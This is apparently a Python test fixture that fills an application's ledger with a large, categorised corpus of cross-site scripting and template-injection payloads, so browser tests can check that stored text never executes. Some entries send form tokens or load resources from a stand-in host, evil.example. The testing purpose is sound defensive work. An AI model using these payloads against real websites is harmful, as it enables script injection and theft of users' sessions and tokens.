"""Text that would run as a script if a page took it for markup: by class of attack, and a ledger that is full of it.

Each sets `window.__xss`, which no script of the page does: so a browser can tell whether one ran.
"""

from __future__ import annotations

from itertools import product
from pathlib import Path
from urllib.parse import urlencode

from onrecord.ledger import checks, open_ledger, searches
from onrecord.ledger.checks import CheckVerdict
from onrecord.model import (
    Kind,
    Origin,
    Participant,
    Record,
    RecordPlace,
    Report,
    Role,
    SourceLink,
    Span,
    Thing,
)

from .conftest import record_at

RUN = "window.__xss=1"
_LEADS = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    " ",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "]]>",
)
_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
)
_IN_ATTRIBUTES = tuple(
    f"x{quote} {handler}={quote}{RUN}{quote} {rest}"
    for quote, handler, rest in product(
        ('"', "'", ""),
        (
            "onmouseover",
            "onfocus",
            "onclick",
            "onpointerenter",
            "onanimationstart",
            "onbeforetoggle",
            "onload",
            "onerror",
        ),
        ("autofocus tabindex=1 x=", "style=animation-name:x x="),
    )
)
_SCHEMES = (
    *(
        f"{scheme}{RUN}{tail}"
        for scheme, tail in product(
            (
                "javascript:",
                "JaVaScRiPt:",
                " javascript:",
                "java\tscript:",
                "java\nscript:",
                "\x01javascript:",
                "javascript&colon;",
                "javascript&#58;",
                "&#106;avascript:",
                "jav&#x0A;ascript:",
                "javascript://example.org/%0A",
                "vbscript:",
                "data:text/javascript,",
                "//javascript:",
                "http:javascript:",
                "http://javascript:",
                "feed:javascript:",
                "blob:javascript:",
                "view-source:javascript:",
                "https:\\\\javascript:",
            ),
            ("", "//", "?https://example.org"),
        )
    ),
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f'https://example.org/"onmouseover={RUN}',
    f"https://example.org/'onmouseover={RUN}",
    f"https://example.org/><script>{RUN}</script>",
)
_MUTATING = (
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUN} src>">',
    f"<svg><style>&lt;img src=x onerror={RUN}&gt;</style></svg>",
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<table><td background=javascript:{RUN}><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template>",
    f'<xmp><p title="</xmp><svg/onload={RUN}>"></xmp>',
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<plaintext><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--!><img src=x onerror={RUN}>--!>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<%<!--'%><script>{RUN}</script -->",
)
_SVG = (
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    f"<image href='1' onerror='{RUN}'/></svg>#x\"/>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<svg><image href=x onerror={RUN}>",
    f"<svg><title><style></title><script>{RUN}</script>",
    f"</text></svg><script>{RUN}</script>",
    f"</title></g><script>{RUN}</script>",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}{{ form_token }}{% endraw %}",
    "{{ form_token }}",
    "{{ cycler.__init__.__globals__ }}",
    "{# comment #}<b>x</b>",
    "${7*7}",
    f"${{{RUN}}}",
    "#{7*7}",
    "<%= 7*7 %>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "%(form_token)s {0.__class__} $form_token",
)
_HTMX = (
    f"<div hx-get=/static/icon.svg hx-trigger=load hx-on::after-request={RUN}>",
    f"<div data-hx-on:click={RUN} hx-vals='js:{{x:{RUN}}}'>",
    f'x" hx-on:click="{RUN}" hx-trigger="load" x="',
    f'x" data-hx-get="/x" data-hx-trigger="load[{RUN}]" x="',
    'x" data-load="//evil.example" data-timeline=\'{\' data-map="//evil.example/x.js" x="',
)
_STYLE = (
    f"<style>@import '//evil.example/x.css';*{{background:url(javascript:{RUN})}}</style>",
    f"</style><script>{RUN}</script>",
    f"x;background:url('javascript:{RUN}')",
    f'x" style="background:url(javascript:{RUN})" x="',
    f'<div style="width:expression({RUN})">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__xss=1'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<form action=//evil.example><input name=token><button>x</button></form>",
    "</form><form action=//evil.example>",
    f"<button formaction=javascript:{RUN}>x</button>",
    "<object data=javascript:window.__xss=1>",
    "<embed src=javascript:window.__xss=1>",
    f"<portal src=javascript:{RUN}>",
    f"<isindex action=javascript:{RUN} type=image>",
)
_UNICODE = (
    f"\u202e<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    f"\u02b9\u02ba><img src=x onerror={RUN}>",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<\x00script>{RUN}</script>",
    f"<img\x0csrc=x\x0conerror={RUN}>",
    f"<img\xa0src=x onerror={RUN}>",
    f"\ufeff<script>{RUN}</script>",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\x1b%-<script>{RUN}</script>",
    f"\u01fc<script>{RUN}</script>\u017f",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u0130<svg onload={RUN}>\u212a",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script>{RUN}&#x3c;/script>",
    f"\\u003cscript\\u003e{RUN}",
    f"\\x3cscript\\x3e{RUN}",
)
_IN_SCRIPTS = tuple(
    f"{lead}{RUN}{tail}"
    for lead, tail in (
        ("'-", "-'"),
        ('"-', '-"'),
        ("\\'-", "//"),
        ('\\"-', "//"),
        ("`${", "}`"),
        ("</script><svg onload=", ">"),
        ('"}]};', "//"),
        ("*/", "/*"),
        ("\\u0027;", ";//"),
        ("\n", "\n//"),
    )
)
CLASSES = {
    "elements": tuple(lead + element for lead, element in product(_LEADS, _ELEMENTS)),
    "attributes": _IN_ATTRIBUTES,
    "schemes": _SCHEMES,
    "mutating": _MUTATING,
    "svg": _SVG,
    "templates": _TEMPLATES,
    "htmx": _HTMX,
    "style": _STYLE,
    "unicode": _UNICODE,
    "scripts": _IN_SCRIPTS,
}
PAYLOADS = tuple(dict.fromkeys(payload for several in CLASSES.values() for payload in several))
AT = "2026-01-02T03:04:05+00:00"


def harmful(number: int, payload: str) -> tuple[Report, list[Record]]:
    """A report that is the payload wherever a report has words, and a record that is it wherever a record has some."""
    text = f"{payload} said {number}."
    of = Report(
        text,
        title=payload,
        outlet=payload,
        bylines=(payload,),
        dateline=payload,
        section=payload,
        url=payload,
        published=f"2023-05-{number % 28 + 1:02}",
        language="en",
        origin=Origin(payload, payload, None, payload),
        provenance=(("title", payload),),
        flags=(payload,),
    )
    whole = Span(0, len(text))
    source = SourceLink(payload, whole, None, Kind.INDIRECT, payload, "e" * 32, "GBR", payload, addressee=payload)
    place = RecordPlace(payload, whole, number, "GBR", 51.0 + number / 1000, 1.0, "city", 0.5)
    taking = Participant(Role.OBJECT, whole, payload, f"{number:032x}", None, payload)
    thing = Thing(whole, payload, payload, payload, f"{number:032x}")
    about = {
        "according_to": (source,),
        "participants": (taking,),
        "place": place,
        "lemma": payload,
        "things": (thing,),
        "contexts": (payload,),
    }
    return of, [record_at(of, 0, len(text), **about)]


def fill(ledger: Path) -> list[tuple[Report, Record]]:
    """File a report of each payload, and decisions and saved searches by people who are called so."""
    filed = []
    with open_ledger(ledger, write=True) as store:
        for number, payload in enumerate(PAYLOADS):
            of, records = harmful(number, payload)
            store.add(of, records, fingerprint="f1")
            filed.append((of, records[0]))
    for payload, (_, record) in list(zip(PAYLOADS, filed, strict=True))[::7]:
        corrected = {"status": "denied", "who": payload, "evidence": payload}
        checks.append(
            ledger, record.id, CheckVerdict.CORRECT, by=payload[:100], at=AT, corrected=corrected, note=payload
        )
    for payload in filter(str.isprintable, PAYLOADS[::7]):
        searches.save(ledger, payload[:100], urlencode({"q": payload}), by=payload[:100], at=AT)
    return filed
